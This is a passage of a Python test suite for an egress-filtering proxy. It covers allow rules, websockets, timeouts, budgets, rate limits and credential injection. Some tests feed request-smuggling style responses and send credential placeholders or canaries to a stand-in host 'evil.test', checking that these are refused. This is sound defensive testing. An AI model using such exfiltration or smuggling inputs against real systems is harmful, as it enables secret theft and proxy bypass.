    origin = answering(outside, answer)
    port = outside.open(rule(port=origin.port, protocol="http"))
    found = ask(port, f"{NAME}:{origin.port}")
    assert f"location: {location}".encode() in found
    assert inside.dialled == 0
    assert refused(ask(port, f"127.0.0.1:{inside.port}"))["code"] == "egress"
    assert inside.dialled == 0


SWITCH = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"


def upgraded(port: int, where: str, data: bytes) -> bytes:
    """A websocket's opening, then bytes; everything that comes back."""
    lines = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: x", "", "")
    text = "\r\n".join((f"GET http://{where}/ws HTTP/1.1", f"Host: {where}", *lines))
    return talk(port, text.encode() + data, half_close=True)


def test_a_websocket_is_a_request_whose_bytes_are_counted(outside: Outside) -> None:
    """N11: allowed, counted, and held to the budget; denied where no rule leads."""
    origin = answering(outside, SWITCH + b"first", close=False)
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, protocol="http"), canary=CANARY)
    assert upgraded(port, where, b"frames" * 100).endswith(b"\r\n\r\nfirst")
    outside.wait(lambda: outside.gate.of(wire.Ended))
    (ended,) = outside.gate.of(wire.Ended)
    assert (ended.status, ended.code) == (101, "")
    assert bytes(origin.received).endswith(b"\r\n\r\n" + b"frames" * 100)
    assert ended.up == len(origin.received)
    assert outside.gate.asked[0].upgrade == "websocket"
    assert refused(upgraded(port, f"evil.test:{origin.port}", b""))["code"] == "egress"
    upgraded(port, where, b"x" + CANARY.encode())
    outside.wait(lambda: outside.gate.of(wire.Leaked))
    assert outside.gate.of(wire.Leaked)[0].name == "canary"
    assert CANARY.encode() not in origin.received
    tight = outside.open(rule(port=origin.port, protocol="http", up=1000), call="c2")
    origin.received.clear()
    upgraded(tight, where, b"f" * 5000)
    outside.wait(lambda: len(outside.gate.of(wire.Ended)) == 3)
    cut = outside.gate.of(wire.Ended)[-1]
    assert (cut.code, cut.up) == ("budget", 1000)
    assert len(origin.received) <= 1000  # what was on its way when the connection was cut may be lost


@pytest.mark.parametrize(
    "switch",
    [
        b"HTTP/1.1 101 Switching\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
        b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\n\r\n",
    ],
)
def test_a_server_may_not_choose_another_protocol(outside: Outside, switch: bytes) -> None:
    origin = answering(outside, switch)
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, protocol="http"))
    assert refused(upgraded(port, where, b""))["code"] == "upstream"
    assert refused(ask(port, where))["code"] == "upstream"  # nor one where none was asked for


# --- N13: slow, endless, broken -----------------------------------------------------------------------------


def head(*lines: bytes, first: bytes = b"HTTP/1.1 200 OK") -> bytes:
    return b"\r\n".join((first, *lines, b"", b""))


BAD_ANSWERS = {
    "CL and TE": head(b"Content-Length: 5", b"Transfer-Encoding: chunked") + b"0\r\n\r\nsmuggled",
    "two lengths": head(b"Content-Length: 5", b"Content-Length: 6") + b"hello!",
    "TE twins": head(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"),
    "10,000 headers": head(*(b"X-%d: y" % number for number in range(10_000))),
    "endless header": head(b"X: " + b"y" * 100_000),
    "fold": head(b"X: y", b" z"),
    "bare LF": b"HTTP/1.1 200 OK\nX: y\n\n",
    "NUL": head(b"X: \0"),
    "not HTTP": b"SSH-2.0-OpenSSH\r\n\r\n",
    "endless 1xx": head(first=b"HTTP/1.1 100 Continue") * 50,
    "nothing": b"",
    "half a head": b"HTTP/1.1 200 OK\r\nX: ",
    "credentials for a proxy": head(b"Proxy-Authenticate: Basic", first=b"HTTP/1.1 407 Who") + b"",
    "status 999999": head(first=b"HTTP/1.1 999999 X"),
}


@pytest.mark.parametrize("answer", BAD_ANSWERS.values(), ids=BAD_ANSWERS)
def test_an_answer_with_two_readings_is_none(outside: Outside, answer: bytes) -> None:
    origin, good = answering(outside, answer), outside.web()
    port = outside.open(rule(port=origin.port, protocol="http"), rule("good", port=good.port, protocol="http"))
    assert refused(ask(port, f"{NAME}:{origin.port}"))["status"] == 502
    assert ask(port, f"{NAME}:{good.port}").startswith(b"HTTP/1.1 200 ")


def test_a_destination_cannot_refuse_in_the_name_of_egress(outside: Outside) -> None:
    answer = b"HTTP/1.1 403 Forbidden\r\nx-RUNNER-refused: egress\r\nX-Own: kept\r\nContent-Length: 2\r\n\r\nno"
    origin = answering(outside, answer)
    port = outside.open(rule(port=origin.port, protocol="http"))
    got = ask(port, f"{NAME}:{origin.port}")
    assert b"x-own: kept" in got.lower(), got
    assert b"x-runner-refused" not in got.lower()
    denied = talk(port, b"GET http://other.example.test/ HTTP/1.1\r\nHost: other.example.test\r\n\r\n")
    assert b"x-runner-refused: egress" in denied.lower()


def test_an_early_answer_is_passed_on_and_the_connection_closed(outside: Outside) -> None:
    """A destination that has answered reads no further: neither do we send."""
    early = b"HTTP/1.1 413 Too Large\r\nContent-Length: 3\r\n\r\nbig"
    origin = answering(outside, early, close=False)
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, protocol="http"))
    part = "x" * (FIRST + HELD)  # as much as gate is shown before anything goes on
    post = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\nContent-Length: {2 * len(part)}\r\n\r\n{part}"
    answer = talk(port, post.encode())
    assert answer.startswith(b"HTTP/1.1 413 ")
    assert answer.endswith(b"\r\n\r\nbig")


@pytest.mark.parametrize("secure", [False, True])
def test_an_answer_that_nobody_asked_for_is_not_given_to_the_next_request(outside: Outside, secure: bool) -> None:
    """Two responses to one request: the second would answer whatever is asked next."""
    twice = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\noneHTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfake"
    origin = answering(outside, twice, context=outside.tls() if secure else None, close=False)
    where = f"{NAME}:{origin.port}"
    if secure:
        port = outside.open(rule(port=origin.port, inspect=True))
        answer = inner(outside, port, where, f"GET / HTTP/1.1\r\nHost: {where}\r\n\r\n".encode() * 2 + b"end")
    else:
        port = outside.open(rule(port=origin.port, protocol="http"))
        one = f"GET http://{where}/ HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()
        answer = talk(port, one * 2 + b"end")
    assert answer.count(b"\r\n\r\none") == 2
    assert b"fake" not in answer
    assert origin.dialled == 2


@pytest.mark.parametrize("secure", [False, True])
def test_a_kept_connection_that_spoke_out_of_turn_is_not_used_again(outside: Outside, secure: bool) -> None:
    """The same, said after the first answer was read whole."""
    said, go = threading.Event(), threading.Event()

    def serve(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\none")
        if not said.is_set():
            go.wait(DEADLINE_S)
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfake")
            said.set()
        connection.recv(65536)

    origin = outside.origin(serve, outside.tls() if secure else None)
    where = f"{NAME}:{origin.port}"
    rules = (rule(port=origin.port, protocol="http"), rule("tls", port=origin.port, inspect=True))
    port = outside.open(*rules)
    target = "/" if secure else f"http://{where}/"
    one = f"GET {target} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()
    sock = tunnel(port, where) if secure else socket.create_connection(("127.0.0.1", port), timeout=DEADLINE_S)
    with outside.client_tls().wrap_socket(sock, server_hostname=NAME) if secure else sock as connection:
        for _ in range(2):
            connection.sendall(one)
            answer = b""
            while not answer.endswith((b"one", b"fake")):
                answer += connection.recv(65536)
            assert answer.endswith(b"one")
            go.set()
            assert said.wait(DEADLINE_S)
    assert origin.dialled == 2


def test_a_kept_connection_serves_only_rules_that_open_its_address(outside: Outside) -> None:
    web = outside.web()
    where = f"{NAME}:{web.port}"
    port = outside.open(
        rule("open", port=web.port, protocol="http", paths=("/a",)),
        rule("closed", port=web.port, protocol="http", paths=("/b",), addresses=()),
    )
    text = "GET http://{0}{1} HTTP/1.1\r\nHost: {0}\r\n\r\n"
    answer = talk(port, (text.format(where, "/a") * 2 + text.format(where, "/b")).encode())
    assert re.findall(rb"HTTP/1\.1 (\d+) ", answer) == [b"200", b"200", b"403"]
    assert [seen["target"] for seen in web.seen] == ["/a", "/a"]
    assert web.dialled == 1
    assert outside.gate.of(wire.Refused)[0].part == "address"


def test_a_call_is_dead_before_anything_else_runs(outside: Outside) -> None:
    """Not when its tasks have noticed: in the very step that reads `Close`."""
    origin = noting(outside)
    port = outside.open(rule("tunnel", port=origin.port, protocol="tcp"), injections=(key("header:X-Key"),))
    with tunnel(port, f"{NAME}:{origin.port}") as sock:
        sock.sendall(b"x")
        outside.wait(lambda: origin.received == b"x")

        async def close() -> tuple[int, int, int, int]:
            call = outside.proxy._calls["c1"]
            before = len(call.links), len(call.credentials.bound(["api"]))
            closing = outside.proxy.close(1, "c1")
            after = len(call.links), len(call.credentials.bound(["api"]))
            await closing
            return (*before, *after)

        assert outside.run(close()) == (2, 1, 0, 0)


def test_only_egress_says_that_egress_refused(outside: Outside) -> None:
    origin = answering(outside, head(b"X-Runner-Refused: denied", b"X-Other: 1", b"Content-Length: 0"))
    port = outside.open(rule(port=origin.port, protocol="http"))
    answer = ask(port, f"{NAME}:{origin.port}")
    assert b"x-other: 1" in answer
    assert b"refused" not in answer.lower()
    assert b"X-Runner-Refused: egress" in ask(port, f"{NAME}:1")


def test_leaks_are_told_so_often_and_no_more(outside: Outside) -> None:
    web = outside.web()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, protocol="http"), canary=CANARY)
    for _ in range(20):
        assert refused(ask(port, where, f"X: {CANARY}"))["code"] == "injection"
    assert len(outside.gate.of(wire.Leaked)) == 16
    assert outside.end().refused == 20
    assert web.seen == []


def test_informational_answers_come_first_and_bodies_as_they_are(outside: Outside) -> None:
    body = bytes(range(256))
    answers = {
        head(first=b"HTTP/1.1 103 Early Hints") + head(b"Content-Length: 256", b"Content-Encoding: gzip") + body: body,
        head(b"Transfer-Encoding: chunked") + b"100;x=y\r\n" + body + b"\r\n0\r\nT: u\r\n\r\n": b"100\r\n"
        + body
        + b"\r\n0\r\n\r\n",
        head(b"Connection: close") + body: body,
        head(first=b"HTTP/1.1 204 No Content"): b"",
    }
    for answer, wanted in answers.items():
        origin = answering(outside, answer)
        port = outside.open(rule(port=origin.port, protocol="http"), call=f"c{origin.port}")
        found = ask(port, f"{NAME}:{origin.port}")
        assert found.partition(b"\r\n\r\n")[2] == wanted
        assert b"103" not in found.partition(b"\r\n")[0]


@pytest.mark.parametrize(
    "answer",
    [head(b"Content-Length: 1000") + b"only this", head(b"Transfer-Encoding: chunked") + b"5\r\nhello\r\n5\r\nhe"],
)
def test_an_answer_that_ends_early_is_not_taken_for_whole(outside: Outside, answer: bytes) -> None:
    origin = answering(outside, answer)
    port = outside.open(rule(port=origin.port, protocol="http"))
    found = ask(port, f"{NAME}:{origin.port}")
    assert not found.endswith(b"0\r\n\r\n")
    (ended,) = outside.gate.of(wire.Ended)
    assert (ended.status, ended.code) == (200, "upstream")


def test_a_half_open_destination_and_a_slow_sandbox_are_given_up(make_outside: Callable[..., Outside]) -> None:
    """N13: silence has a limit on every side, whatever the connection is doing."""
    outside = make_outside(idle_s=0.3, head_s=0.3)
    hold = threading.Event()

    def serve(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(head(b"Content-Length: 10") + b"half")
        hold.wait(DEADLINE_S)

    origin, mute = outside.origin(serve), outside.origin(lambda _: hold.wait(DEADLINE_S) and None)
    web = outside.web()
    rules = [rule(name, port=each.port, protocol="http") for name, each in (("a", origin), ("b", mute), ("c", web))]
    port = outside.open(*rules, rule("t", OTHER, port=mute.port, protocol="tcp"))
    try:
        assert ask(port, f"{NAME}:{origin.port}").endswith(b"half")
        assert refused(ask(port, f"{NAME}:{mute.port}"))["code"] == "timeout"
        with tunnel(port, f"{OTHER}:{mute.port}") as sock:
            assert drained(sock) == b""
        for slow in (b"", b"GET http://x", b"GET http://x/ HTTP/1.1\r\nHost: x\r\nX: "):
            found = talk(port, slow)
            assert found == b"" or refused(found)["code"] == "timeout"
        body = f"POST http://{NAME}:{web.port}/ HTTP/1.1\r\nHost: {NAME}:{web.port}\r\nContent-Length: 9\r\n\r\nhalf"
        talk(port, body.encode())
    finally:
        hold.set()
    codes = [message.code for message in outside.gate.of(wire.Ended)]
    assert codes == ["timeout"] * 3
    assert "timeout" in [message.code for message in outside.gate.of(wire.Refused)]
    assert ask(port, f"{NAME}:{web.port}").startswith(b"HTTP/1.1 200 ")
    outside.wait(lambda: not outside.proxy._connections)


def test_a_head_that_dribbles_is_given_up(make_outside: Callable[..., Outside]) -> None:
    """N13: a byte now and then does not keep a head alive, on either side."""
    outside = make_outside(head_s=0.4)
    stop = threading.Event()

    def dribble(send: Callable[[bytes], Any]) -> None:
        with contextlib.suppress(OSError):
            while not stop.wait(0.02):
                send(b"A")

    def serve(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nX: ")
        dribble(connection.sendall)

    origin = outside.origin(serve)
    port = outside.open(rule(port=origin.port, protocol="http"))
    try:
        assert refused(ask(port, f"{NAME}:{origin.port}"))["code"] == "timeout"
        with socket.create_connection(("127.0.0.1", port), timeout=DEADLINE_S) as sock:
            sock.sendall(b"GET http://x/ HTTP/1.1\r\nX: ")
            thread = threading.Thread(target=dribble, args=(sock.sendall,))
            thread.start()
            assert refused(drained(sock))["code"] == "timeout"
            stop.set()
            thread.join()
    finally:
        stop.set()


def test_a_call_has_so_many_connections_and_no_more(make_outside: Callable[..., Outside]) -> None:
    outside = make_outside(connections_per_call=3, connections=5)
    web = outside.web()
    where = f"{NAME}:{web.port}"
    ports = [outside.open(rule(port=web.port, protocol="http"), call=call) for call in ("c1", "c2")]
    with contextlib.ExitStack() as stack:
        for _ in range(3):
            stack.enter_context(socket.create_connection(("127.0.0.1", ports[0])))
        outside.wait(lambda: outside.proxy._connections == 3)
        assert refused(ask(ports[0], where))["code"] == "busy"
        assert ask(ports[1], where).startswith(b"HTTP/1.1 200 ")  # another call has its own
        outside.wait(lambda: outside.proxy._connections == 3)
        for _ in range(2):
            stack.enter_context(socket.create_connection(("127.0.0.1", ports[1])))
        outside.wait(lambda: outside.proxy._connections == 5)
        assert refused(ask(ports[1], where))["code"] == "busy"  # but all together have a bound
    outside.wait(lambda: not outside.proxy._connections)
    assert ask(ports[0], where).startswith(b"HTTP/1.1 200 ")


# --- N16: budgets and rates ---------------------------------------------------------------------------------


def flood(connection: socket.socket) -> None:
    """Read a byte, then send without end."""
    connection.recv(1)
    with contextlib.suppress(OSError):
        while True:
            connection.sendall(bytes(65536))


@pytest.mark.parametrize("budget", [1, 65_536, 1_000_000])
def test_a_tunnel_moves_its_budget_and_not_a_byte_more(outside: Outside, budget: int) -> None:
    """N16: the case allows 64 KiB beyond; these are exact, both ways."""
    source, origin = outside.origin(flood), noting(outside)
    port = outside.open(
        rule("down", port=source.port, protocol="tcp", down=budget),
        rule("up", port=origin.port, protocol="tcp", up=budget),
    )
    with tunnel(port, f"{NAME}:{source.port}") as sock:
        sock.sendall(b"x")
        assert len(drained(sock)) <= budget
    with tunnel(port, f"{NAME}:{origin.port}") as sock:
        with contextlib.suppress(OSError):
            for _ in range(64):
                sock.sendall(bytes(65536))
        drained(sock)
    outside.wait(lambda: len(outside.gate.of(wire.Ended)) == 2)
    down, up = outside.gate.of(wire.Ended)
    assert (down.code, down.down) == ("budget", budget)
    assert (up.code, up.up) == ("budget", budget)
    outside.wait(lambda: not outside.proxy._connections)
    assert len(origin.received) <= budget
    for where in (source.port, origin.port):  # it is the call's, not the connection's
        assert refused_or_dialled(port, f"{NAME}:{where}") == "budget"
    twin = outside.open(rule("up", port=origin.port, protocol="tcp", up=budget), call="c2")
    assert refused_or_dialled(twin, f"{NAME}:{origin.port}") == "dialled"


def test_a_body_that_the_tool_cut_is_interrupted_and_no_wrong_syntax(outside: Outside) -> None:
    """Most often the call was killed."""
    web = outside.web()
    port = outside.open(rule(port=web.port, protocol="http"))
    where = f"{NAME}:{web.port}"
    for framing, body, code in (
        ("Content-Length: 500000", bytes(1000), "interrupted"),
        ("Transfer-Encoding: chunked", b"x\r\n", "syntax"),
    ):
        begun = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\n{framing}\r\n\r\n".encode() + body
        assert refused(talk(port, begun, half_close=True))["code"] == code
        assert outside.gate.of(wire.Refused)[-1].code == code


def test_a_body_is_cut_at_the_budget(outside: Outside) -> None:
    answer = head(b"Content-Length: 500000") + bytes(500_000)
    origin, web = answering(outside, answer), outside.web()
    port = outside.open(
        rule("down", port=origin.port, protocol="http", down=100_000),
        rule("up", port=web.port, protocol="http", up=100_000),
    )
    found = ask(port, f"{NAME}:{origin.port}")
    assert 100_000 - 65_536 <= len(found) <= 100_000
    where = f"{NAME}:{web.port}"
    post = f"POST http://{where}/ HTTP/1.1\r\nHost: {where}\r\nContent-Length: 500000\r\n\r\n".encode()
    answered = talk(port, post + bytes(500_000))
    assert answered == b"" or refused(answered)["code"] == "budget"
    assert [message.code for message in outside.gate.of(wire.Ended)] == ["budget", "budget"]
    assert max(message.up for message in outside.gate.of(wire.Ended)) <= 100_000
    assert web.seen == []


def test_so_many_requests_a_minute_and_no_more(outside: Outside) -> None:
    web = outside.web()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, protocol="http", rate=3))
    assert [ask(port, where)[9:12] for _ in range(5)] == [b"200"] * 3 + [b"429"] * 2
    assert len(web.seen) == 3
    assert [message.code for message in outside.gate.of(wire.Refused)] == ["rate", "rate"]
    other = outside.open(rule(port=web.port, protocol="http", rate=3), call="c2")
    assert ask(other, where).startswith(b"HTTP/1.1 200 ")


# --- N18, K15: credentials ----------------------------------------------------------------------------------


def test_a_credential_goes_where_it_is_bound_and_the_tool_never_sees_it(outside: Outside) -> None:
    web = outside.web(outside.tls()).quiet()
    where = f"{NAME}:{web.port}"
    places = ("header:X-Key", "query:key", "basic", "body")
    port = outside.open(rule(port=web.port, inspect=True), injections=(key(*places),), canary=CANARY)
    basic = base64.b64encode(f"user:{KEY}".encode()).decode()
    body = json.dumps({"key": KEY, "padding": PADDING})
    text = (
        f"POST /v1?key={KEY}&a=b HTTP/1.1\r\nHost: {where}\r\nX-Key: {KEY}\r\nAuthorization: Basic {basic}\r\n"
        f"Accept-Encoding: gzip\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
    )
    answer = inner(outside, port, where, text.encode())
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert VALUE not in answer
    (seen,) = web.seen
    headers = dict(seen["headers"])
    assert seen["target"] == f"/v1?key={VALUE.decode()}&a=b"
    assert headers["x-key"] == VALUE.decode()
    assert base64.b64decode(headers["authorization"].removeprefix("Basic ")) == b"user:" + VALUE
    assert json.loads(seen["body"]) == {"key": VALUE.decode(), "padding": PADDING}
    assert headers["content-length"] == str(len(seen["body"]))
    assert headers["accept-encoding"] == "identity"
    (ended,) = outside.gate.of(wire.Ended)
    assert ended.secrets == ("key",)
    assert VALUE.decode() not in repr(outside.gate.told) + repr(outside.gate.asked)
    assert KEY not in repr(outside.gate.told) + repr(outside.gate.asked)


@pytest.mark.parametrize("size", [1000, 2_000_000])
@pytest.mark.parametrize("chunked", [False, True])
def test_a_credential_in_a_body_is_counted_anew(outside: Outside, size: int, chunked: bool) -> None:
    web = outside.web(outside.tls()).quiet()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, inspect=True), injections=(key("body"),))
    body = b"a" * size + KEY.encode() + b"b" * 10
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
    sent = b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body) if chunked else body
    answer = inner(
        outside,
        port,
        where,
        f"POST / HTTP/1.1\r\nHost: {where}\r\n{framing}\r\nConnection: close\r\n\r\n".encode() + sent,
    )
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert web.seen[0]["body"] == (b"a" * size + VALUE + b"b" * 10).decode()


OUT_OF_PLACE = {
    "path": f"GET /{KEY} HTTP/1.1\r\nHost: {{where}}\r\n\r\n",
    "another header": f"GET / HTTP/1.1\r\nHost: {{where}}\r\nX-Other: {KEY}\r\n\r\n",
    "another key of the query": f"GET /?other={KEY} HTTP/1.1\r\nHost: {{where}}\r\n\r\n",
    "user agent": f"GET / HTTP/1.1\r\nHost: {{where}}\r\nUser-Agent: {KEY}\r\n\r\n",
    "short body": f"POST / HTTP/1.1\r\nHost: {{where}}\r\nContent-Length: 36\r\n\r\n{KEY}",
    "chunked body": f"POST / HTTP/1.1\r\nHost: {{where}}\r\nTransfer-Encoding: chunked\r\n\r\n"
    f"10\r\n{KEY[:16]}\r\n14\r\n{KEY[16:]}\r\n0\r\n\r\n",
    "canary in the right place": f"GET / HTTP/1.1\r\nHost: {{where}}\r\nX-Key: {CANARY}\r\n\r\n",
    "canary in a body": f"POST / HTTP/1.1\r\nHost: {{where}}\r\nContent-Length: 36\r\n\r\n{CANARY}",
}


@pytest.mark.parametrize("text", OUT_OF_PLACE.values(), ids=OUT_OF_PLACE)
def test_a_placeholder_out_of_its_place_is_a_leak_and_goes_nowhere(outside: Outside, text: str) -> None:
    made: list[Origin] = []
    made.append(outside.origin(lambda connection: sink(connection, made[0]), outside.tls()))
    origin = made[0]
    where = f"{NAME}:{origin.port}"
    port = outside.open(rule(port=origin.port, inspect=True), injections=(key("header:X-Key"),), canary=CANARY)
    answer = refused(inner(outside, port, where, text.replace("{where}", where).encode()))
    assert (answer["code"], answer["status"]) == ("injection", 403)
    (leaked,) = outside.gate.of(wire.Leaked)
    assert leaked.name in ("key", "canary")
    outside.end()
    for piece in (KEY, CANARY, KEY[:16], CANARY[:16]):
        assert piece.encode() not in origin.received
    assert VALUE not in origin.received
    if "body" not in leaked.where:
        assert origin.dialled == 0


def test_a_placeholder_at_its_own_host_is_denied_like_any_request_and_no_alarm(outside: Outside) -> None:
    web = outside.web(outside.tls(NAME))
    port = outside.open(
        rule(port=web.port, inspect=True, paths=("/v1/*",)), injections=(key("header:X-Key"),), canary=CANARY
    )
    where = f"{NAME}:{web.port}"
    text = f"GET {{}} HTTP/1.1\r\nHost: {where}\r\n{{}}: {KEY}\r\nConnection: close\r\n\r\n"
    denied = refused(inner(outside, port, where, text.format("/other", "X-Key").encode()))
    assert (denied["code"], "/other" in denied["missing"]) == ("egress", True)
    assert outside.gate.of(wire.Leaked) == []
    assert web.seen == []
    assert refused(inner(outside, port, where, text.format("/other", "X-Wrong").encode()))["code"] == "injection"
    assert [leaked.where for leaked in outside.gate.of(wire.Leaked)] == ["header x-wrong"]
    inner(outside, port, where, text.format("/v1/a", "X-Key").encode())
    assert dict(web.seen[0]["headers"])["x-key"] == VALUE.decode()


def test_a_placeholder_towards_another_host_is_a_leak_even_where_the_host_is_denied(outside: Outside) -> None:
    """K15: another allowed host, a denied one, plain http, another call's: never the value."""
    web, plain = outside.web(outside.tls(NAME, OTHER)), outside.web()
    rules = (
        *(rule(port=web.port, inspect=True), rule("other", OTHER, port=web.port, inspect=True)),
        rule("plain", OTHER, port=plain.port, protocol="http"),
    )
    port = outside.open(*rules, injections=(key("header:X-Key"),), canary=CANARY)
    where, other = f"{NAME}:{web.port}", f"{OTHER}:{web.port}"
    text = f"GET / HTTP/1.1\r\nHost: {{}}\r\nX-Key: {KEY}\r\nConnection: close\r\n\r\n"
    repeated = inner(outside, port, where, text.format(where).encode())
    assert VALUE not in repeated
    assert b"content-length: 165" in repeated
    assert len(repeated.partition(b"\r\n\r\n")[2]) < 165  # cut before it
    assert dict(web.seen[0]["headers"])["x-key"] == VALUE.decode()
    assert refused(inner(outside, port, other, text.format(other).encode(), name=OTHER))["code"] == "injection"
    for host in (f"{OTHER}:{plain.port}", f"evil.test:{plain.port}"):
        assert refused(ask(port, host, f"X-Key: {KEY}"))["code"] == "injection"
    assert [leaked.where for leaked in outside.gate.of(wire.Leaked)] == ["response", *["header x-key"] * 3]
    assert len(web.seen) == 1
    assert plain.seen == []
    neighbour = outside.open(*rules, call="c2")  # N18: the same task, the same rules, no credential of its own
    inner(outside, neighbour, where, text.format(where).encode())
    assert dict(web.seen[1]["headers"])["x-key"] == KEY  # worthless there, as everywhere


def test_an_answer_that_repeats_the_credential_is_cut_before_it(outside: Outside) -> None:
    for answer in (
        head(b"X-Echo: " + VALUE, b"Content-Length: 0"),
        head(b"Content-Length: 100") + b"abc" + VALUE + bytes(100),
        head(b"Transfer-Encoding: chunked")
        + b"6\r\n"
        + VALUE[:6]
        + b"\r\n%x\r\n" % (len(VALUE) - 6)
        + VALUE[6:]
        + b"\r\n0\r\n\r\n",
    ):
        origin = answering(outside, answer, context=outside.tls())
        where = f"{NAME}:{origin.port}"
        call = f"c{origin.port}"
        port = outside.open(rule(port=origin.port, inspect=True), injections=(key("header:X-Key"),), call=call)
        text = f"GET / HTTP/1.1\r\nHost: {where}\r\nX-Key: {KEY}\r\n\r\n"
        found = inner(outside, port, where, text.encode())
        assert VALUE[:6] not in found
        assert VALUE in origin.received
        outside.wait(lambda call=call: [each for each in outside.gate.of(wire.Ended) if each.call == call])
        assert outside.gate.of(wire.Ended)[-1].code == "injection"
        assert outside.gate.of(wire.Ended)[-1].secrets == ("key",)


def test_a_placeholder_does_not_make_a_request_endless(outside: Outside) -> None:
    """Thirty-six bytes become as many as the credential has: so many times and no more."""
    web = outside.web(outside.tls()).quiet()
    where = f"{NAME}:{web.port}"
    port = outside.open(rule(port=web.port, inspect=True), injections=(key("body", "header:X-Key"),))
    for count, wanted in ((16, b"200"), (17, b"403")):
        body = KEY * count
        post = f"POST / HTTP/1.1\r\nHost: {where}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
        assert inner(outside, port, where, post.encode())[9:12] == wanted
        get_ = f"GET / HTTP/1.1\r\nHost: {where}\r\nX-Key: {body}\r\nConnection: close\r\n\r\n"
        assert inner(outside, port, where, get_.encode())[9:12] == wanted
    assert len(web.seen) == 2


def test_injection_that_cannot_happen_is_a_refusal(outside: Outside) -> None:
    web, origin = outside.web(outside.tls()), noting(outside)
    port = outside.open(
        *(rule(port=web.port), rule("other", OTHER, port=origin.port, protocol="tcp")),
        injections=(key("header:X-Key"), key("header:X-Key", rules=("other",))),
    )
    for where in (f"{NAME}:{web.port}", f"{OTHER}:{origin.port}"):
        answer = talk(port, f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode())
        assert refused(answer)["code"] == "injection"
    assert (web.dialled, origin.dialled) == (0, 0)
    inspected = outside.open(rule(port=web.port, inspect=True), injections=(key("body"),), call="c2")
    where = f"{NAME}:{web.port}"
    packed = f"POST / HTTP/1.1\r\nHost: {where}\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc"
    assert refused(inner(outside, inspected, where, packed.encode()))["code"] == "injection"
    assert web.seen == []


@pytest.mark.parametrize("needle", [KEY, CANARY])
def test_a_placeholder_in_an_opaque_tunnel_ends_it(outside: Outside, needle: str) -> None:
    origin, web = noting(outside), outside.web(outside.tls())
    port = outside.open(
        *(rule(port=web.port, inspect=True), rule("other", OTHER, port=origin.port, protocol="tcp")),
        injections=(key("header:X-Key"),),
        canary=CANARY,
    )
    with tunnel(port, f"{OTHER}:{origin.port}") as sock:
        sock.sendall(b"plain text " + needle[:20].encode())
        outside.wait(lambda: origin.received.endswith(needle[:20].encode()))  # nothing is held up
        sock.sendall(needle[20:].encode() + b" more")
        drained(sock)
    (leaked,) = outside.wait(lambda: outside.gate.of(wire.Leaked))
    assert leaked.where == "opaque tunnel"
    outside.wait(lambda: outside.gate.of(wire.Ended))
    assert outside.gate.of(wire.Ended)[0].code == "injection"
    assert needle.encode() not in origin.received
    with tunnel(port, f"{OTHER}:{origin.port}") as sock:
        sock.sendall(b"nothing of the kind")
        outside.wait(lambda: origin.received.endswith(b"kind"))


# --- the call's end -----------------------------------------------------------------------------------------


def test_nothing_of_a_call_outlives_it(outside: Outside) -> None:
    """When `Closed` is back the listener, every connection and every dial are gone; a neighbour's go on."""
    origin, web = noting(outside), outside.web()
    rules = (rule(port=origin.port, protocol="tcp"), rule("web", port=web.port, protocol="http"))
    port, other = (outside.open(*rules, call=call) for call in ("c1", "c2"))
    where = f"{NAME}:{origin.port}"
    with (
        tunnel(port, where) as mine,
        tunnel(other, where) as neighbours,
        socket.create_connection(("127.0.0.1", port)) as idle,
    ):
        mine.sendall(b"before")
        outside.wait(lambda: origin.received == b"before")
        closed = outside.end("c1")
        assert closed.up == 6
        assert drained(mine) == b""
        assert drained(idle) == b""
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", port))
        with contextlib.suppress(OSError):
            mine.sendall(b"after")
        neighbours.sendall(b"+neighbour")
        outside.wait(lambda: origin.received == b"before+neighbour")
        (ended,) = outside.gate.of(wire.Ended)
        assert (ended.call, ended.code) == ("c1", "interrupted")
    assert ask(other, f"{NAME}:{web.port}").startswith(b"HTTP/1.1 200 ")


def test_a_placeholder_dies_with_its_call_in_every_race(outside: Outside) -> None:
    """K13: requests hammer while the call is closed; none that begins afterwards carries the value."""
    web = outside.web(outside.tls()).quiet()
    where = f"{NAME}:{web.port}"
    text = f"GET / HTTP/1.1\r\nHost: {where}\r\nX-Key: {KEY}\r\n\r\n".encode()
    for number in range(12):
        call = f"c{number}"
        port = outside.open(rule(port=web.port, inspect=True), injections=(key("header:X-Key"),), call=call)
        sock = tunnel(port, where)
        with outside.client_tls().wrap_socket(sock, server_hostname=NAME) as tls:
            tls.settimeout(DEADLINE_S)
            stop = threading.Event()

            def hammer(tls: ssl.SSLSocket = tls, stop: threading.Event = stop) -> None:
